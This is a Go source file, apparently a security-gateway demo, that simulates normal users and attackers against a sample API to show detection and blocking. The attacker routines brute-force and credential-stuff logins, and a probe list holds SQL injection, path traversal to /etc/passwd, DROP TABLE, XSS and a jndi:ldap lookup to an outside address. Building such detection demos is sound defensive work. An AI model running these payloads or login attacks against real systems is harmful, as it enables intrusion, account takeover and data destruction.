package demo

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"strconv"
	"sync"
	"time"
)

// client is one simulated party. The sample API trusts the loopback proxy
// in front of it, so each party's X-Forwarded-For gives it its own client
// address in the trail.
type client struct {
	base  string
	ip    string
	ua    string
	http  *http.Client
	token string
	// secrets collects every credential this client sent, so the summary
	// can prove none of them reached the trail.
	secrets *secretSet
}

type secretSet struct {
	mu sync.Mutex
	m  map[string]bool
}

func (s *secretSet) add(v string) {
	s.mu.Lock()
	s.m[v] = true
	s.mu.Unlock()
}

func (s *secretSet) list() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]string, 0, len(s.m))
	for k := range s.m {
		out = append(out, k)
	}
	return out
}

func (c *client) do(ctx context.Context, method, path string, body any) (int, []byte) {
	var rd io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.base+path, rd)
	if err != nil {
		return 0, nil
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	req.Header.Set("X-Forwarded-For", c.ip)
	req.Header.Set("User-Agent", c.ua)
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return 0, nil
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, out
}

func (c *client) login(ctx context.Context, name, password string) bool {
	c.secrets.add(password)
	status, body := c.do(ctx, "POST", "/api/login", map[string]string{"username": name, "password": password})
	if status != http.StatusOK {
		return false
	}
	var out struct{ Token string }
	json.Unmarshal(body, &out)
	c.token = out.Token
	c.secrets.add(out.Token)
	return true
}

// testCards are the card networks' published test numbers (Luhn-valid).
var testCards = []string{"4111 1111 1111 1111", "5555-5555-5555-4444", "378282246310005", "6011111111111117"}

// pause sleeps for a human-ish think time, or returns false when the demo
// is over.
func pause(ctx context.Context, min, max time.Duration) bool {
	d := min + rand.N(max-min+1)
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}

// pace is how long the parties keep going: every party plays at least its
// minimum number of rounds, which only hard (the caller's context) stops,
// so that every run shows each kind of event however slow the machine;
// after those, rounds go on until soft (the demo's duration) ends.
type pace struct{ hard, soft context.Context }

// round waits a think time before round i and reports whether to play it.
func (p pace) round(i, min int, lo, hi time.Duration) bool {
	if i < min {
		return pause(p.hard, lo, hi)
	}
	return pause(p.soft, lo, hi)
}

// Minimum rounds per party.
const (
	shopperRounds = 40 // with two shoppers: ≥ 50 successful requests, ≥ 3 orders
	adminRounds   = 6
	snoopRounds   = 9
)

// shopper logs in and browses and buys until the pace says stop.
func shopper(p pace, c *client, name, password string) {
	ctx := p.hard
	for !c.login(ctx, name, password) {
		if !pause(p.soft, 50*time.Millisecond, 100*time.Millisecond) {
			return
		}
	}
	for i := 0; p.round(i, shopperRounds, 15*time.Millisecond, 60*time.Millisecond); i++ {
		switch i % 6 {
		case 0, 3:
			c.do(ctx, "GET", "/api/orders", nil)
		case 1:
			card := testCards[rand.N(len(testCards))]
			c.secrets.add(card)
			c.do(ctx, "POST", "/api/orders", map[string]any{"item": "book", "amount_cents": 1200 + rand.N(5000), "card_number": card})
		case 2:
			c.do(ctx, "GET", fmt.Sprintf("/api/orders/%d", 1+rand.N(20)), nil)
		case 4:
			c.do(ctx, "POST", "/api/orders", map[string]any{"item": "", "amount_cents": 0}) // fails validation
		case 5:
			c.do(ctx, "GET", "/healthz", nil)
		}
	}
	c.do(context.Background(), "POST", "/api/logout", nil)
}

// admin manages users: lists them and moves dave between roles.
func admin(p pace, c *client, password string) {
	ctx := p.hard
	if !c.login(ctx, "alice", password) {
		return
	}
	roles := []string{"viewer", "clerk"}
	for i := 0; p.round(i, adminRounds, 100*time.Millisecond, 250*time.Millisecond); i++ {
		if i%2 == 0 {
			c.do(ctx, "GET", "/api/users", nil)
		} else {
			c.do(ctx, "PUT", "/api/users/dave/role", map[string]string{"role": roles[i/2%2]})
		}
	}
}

// snoop is a viewer poking at what a viewer may not touch: authz failures.
func snoop(p pace, c *client, password string) {
	ctx := p.hard
	if !c.login(ctx, "bob", password) {
		return
	}
	for i := 0; p.round(i, snoopRounds, 80*time.Millisecond, 200*time.Millisecond); i++ {
		switch i % 3 {
		case 0:
			c.do(ctx, "GET", "/api/users", nil)
		case 1:
			c.do(ctx, "PUT", "/api/users/bob/role", map[string]string{"role": "admin"})
		case 2:
			c.do(ctx, "GET", "/api/orders/1", nil)
		}
	}
}

// blocked reports whether an answer is the gateway refusing a blocked
// client (not the application's own 403).
func blocked(status int, body []byte) bool {
	return status == http.StatusForbidden && bytes.Contains(body, []byte("client is blocked"))
}

// Attack scripts go on until the gateway blocks them (then send a few more
// requests, which it refuses), for up to attackFor: the demo's outcome
// never depends on how fast the machine is (a loaded machine's detection
// may take seconds; a count of attempts would run out first).
const (
	afterBlock = 3
	attackFor  = 2 * time.Minute
)

// bruteForcer guesses alice's password from one address, fast.
func bruteForcer(ctx context.Context, c *client, wordlist []string) {
	if !pause(ctx, 400*time.Millisecond, 600*time.Millisecond) {
		return
	}
	refused, begin := 0, time.Now()
	for i := 0; time.Since(begin) < attackFor && refused < afterBlock && ctx.Err() == nil; i++ {
		pw := wordlist[i%len(wordlist)]
		if i >= len(wordlist) {
			pw += strconv.Itoa(i / len(wordlist))
		}
		c.secrets.add(pw)
		status, body := c.do(ctx, "POST", "/api/login", map[string]string{"username": "alice", "password": pw})
		if blocked(status, body) {
			refused++
		}
		slowDown(ctx, i)
	}
}

// slowDown paces an attacker: fast at first, then slower, so that a
// loaded machine where detection lags sees a long attack, not a huge one.
func slowDown(ctx context.Context, i int) {
	if i < 60 {
		pause(ctx, 5*time.Millisecond, 15*time.Millisecond)
	} else {
		pause(ctx, 80*time.Millisecond, 120*time.Millisecond)
	}
}

// stuffer tries leaked user name and password pairs, several at once, as
// credential-stuffing tools do.
func stuffer(ctx context.Context, c *client) {
	if !pause(ctx, 900*time.Millisecond, 1100*time.Millisecond) {
		return
	}
	var mu sync.Mutex
	refused, next, begin := 0, 0, time.Now()
	var wg sync.WaitGroup
	for range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				mu.Lock()
				i := next
				next++
				stop := refused >= afterBlock || time.Since(begin) > attackFor
				mu.Unlock()
				if stop {
					return
				}
				pw := fmt.Sprintf("Leaked#%04d", i*7919%10000)
				c.secrets.add(pw)
				status, body := c.do(ctx, "POST", "/api/login", map[string]string{"username": fmt.Sprintf("user%03d@example.com", i), "password": pw})
				if blocked(status, body) {
					mu.Lock()
					refused++
					mu.Unlock()
				}
				slowDown(ctx, i)
			}
		}()
	}
	wg.Wait()
}

// prober looks for injection and traversal holes with an attack tool.
func prober(ctx context.Context, c *client) {
	if !pause(ctx, 1400*time.Millisecond, 1600*time.Millisecond) {
		return
	}
	probes := []string{"/api/orders/1%27%20OR%20%271%27=%271", "/api/orders?id=1%20UNION%20SELECT%20password%20FROM%20users--",
		"/api/../../etc/passwd", "/api/orders/1;DROP%20TABLE%20orders", "/api/users?name=%3Cscript%3Ealert(1)%3C/script%3E",
		"/api/orders/%24%7Bjndi:ldap://203.0.113.9/a%7D", "/.env", "/api/orders/1%20AND%20SLEEP(5)"}
	refused, begin := 0, time.Now()
	for i := 0; time.Since(begin) < attackFor && refused < afterBlock && ctx.Err() == nil; i++ {
		status, body := c.do(ctx, "GET", probes[i%len(probes)], nil)
		if blocked(status, body) {
			refused++
		}
		pause(ctx, 60*time.Millisecond, 90*time.Millisecond)
	}
}
